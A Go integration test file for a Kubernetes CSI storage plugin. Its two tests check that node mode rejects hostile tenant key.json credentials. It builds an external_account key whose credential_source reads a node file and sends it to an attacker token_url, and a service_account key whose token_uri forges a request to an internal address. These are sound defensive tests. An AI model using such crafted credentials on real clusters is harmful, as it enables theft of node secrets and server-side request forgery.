package integration

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

// A node-mode volume's key.json against a hostile tenant: the mount runs
// in the privileged plugin, on the node's files and network.

// TestCSINodeModeKeyFileReadsNoNodeFile: a Secret's key.json is a Google
// credentials file, and some types of it are programs for the auth
// library rather than credentials: an external_account reads the file
// (or fetches the URL) its credential_source names and sends what it
// finds to its token_url. In node mode the mount runs in the privileged
// plugin, so such a key.json would send the tenant any file of the node
// (another volume's key, the tier's signing key, kubelet's) or what the
// node's metadata server answers. Node mode refuses it before anything
// runs; sidecar mode, where it reads the pod's own files (workload
// identity federation), still takes it.
func TestCSINodeModeKeyFileReadsNoNodeFile(t *testing.T) {
	requireFUSE(t)
	secretFile := filepath.Join(t.TempDir(), "node-only")
	if err := os.WriteFile(secretFile, []byte("the-node-s-secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	stolen := make(chan string, 16)
	sink := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		stolen <- r.URL.String() + " " + string(b)
		http.Error(w, "no", http.StatusBadRequest)
	})}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = sink.Serve(l) }()
	t.Cleanup(func() { sink.Close() })
	key, err := json.Marshal(map[string]any{
		"type":               "external_account",
		"audience":           "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
		"subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
		"token_url":          "http://" + l.Addr().String() + "/token",
		"credential_source":  map[string]any{"file": secretFile},
	})
	if err != nil {
		t.Fatal(err)
	}
	p := startCSI(t)
	kubelet := t.TempDir()
	attrs := map[string]string{
		"source": "gs://some-bucket", "mode": "node", "csi.storage.k8s.io/ephemeral": "false",
		// https, so that the credentials are used; nothing listens there.
		"endpointURL": "https://127.0.0.1:1",
	}
	target, _ := podTarget(t, kubelet, "pod-keyfile", "data")
	err = p.publish(publishReq("vol-keyfile", target, attrs, map[string]string{"key.json": string(key)}))
	if status.Code(err) != codes.InvalidArgument || !strings.Contains(err.Error(), "external_account") {
		t.Errorf("node mode, key.json of type external_account: %v, want InvalidArgument naming the type", err)
	}
	if fs, _ := csiMountAt(target); fs != "" {
		_ = p.unpublish("vol-keyfile", target)
	}
	// Sidecar mode takes it: the sidecar runs it in the pod.
	attrs["mode"] = "sidecar"
	target, _ = podTarget(t, kubelet, "pod-keyfile-sidecar", "data")
	if err := p.publish(publishReq("vol-keyfile", target, attrs, map[string]string{"key.json": string(key)})); err != nil {
		t.Errorf("sidecar mode, key.json of type external_account: %v", err)
	} else if err := p.unpublish("vol-keyfile", target); err != nil {
		t.Fatal(err)
	}
	for {
		select {
		case s := <-stolen:
			if strings.Contains(s, "the-node-s-secret") {
				t.Errorf("the node's file was sent to the key's token_url: %s", s)
			} else {
				t.Errorf("the key's token_url was asked: %s", s)
			}
			continue
		default:
		}
		break
	}
}

// TestCSINodeModeKeyFileTokenURI: a service-account key.json names the
// URL its signed token request goes to (token_uri). In node mode the
// request leaves from the privileged plugin, on the node's network, and
// the answer's body comes back in the publish error (a FailedMount event
// the tenant reads): a request forged to any address the node reaches.
// Node mode takes Google's token endpoints only.
func TestCSINodeModeKeyFileTokenURI(t *testing.T) {
	requireFUSE(t)
	asked := make(chan string, 16)
	internal := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked <- r.Method + " " + r.URL.String()
		http.Error(w, "internal-service-answer", http.StatusBadRequest)
	})}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = internal.Serve(l) }()
	t.Cleanup(func() { internal.Close() })
	pk, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(pk)
	if err != nil {
		t.Fatal(err)
	}
	key, err := json.Marshal(map[string]any{
		"type": "service_account", "project_id": "p", "private_key_id": "k1",
		"private_key":  string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
		"client_email": "tenant@p.iam.gserviceaccount.com", "client_id": "1",
		"token_uri": "http://" + l.Addr().String() + "/admin/reset",
	})
	if err != nil {
		t.Fatal(err)
	}
	p := startCSI(t)
	kubelet := t.TempDir()
	attrs := map[string]string{"source": "gs://some-bucket", "mode": "node", "csi.storage.k8s.io/ephemeral": "false",
		"endpointURL": "https://127.0.0.1:1"}
	target, _ := podTarget(t, kubelet, "pod-token-uri", "data")
	err = p.publish(publishReq("vol-token-uri", target, attrs, map[string]string{"key.json": string(key)}))
	if status.Code(err) != codes.InvalidArgument || !strings.Contains(err.Error(), "token_uri") {
		t.Errorf("node mode, key.json with token_uri on the node's network: %v, want InvalidArgument naming token_uri", err)
	}
	if err != nil && strings.Contains(err.Error(), "internal-service-answer") {
		t.Errorf("the publish error shows the answer of the address token_uri named: %v", err)
	}
	if fs, _ := csiMountAt(target); fs != "" {
		_ = p.unpublish("vol-token-uri", target)
	}
	select {
	case s := <-asked:
		t.Errorf("the plugin sent a request to the key's token_uri: %s", s)
	default:
	}
}
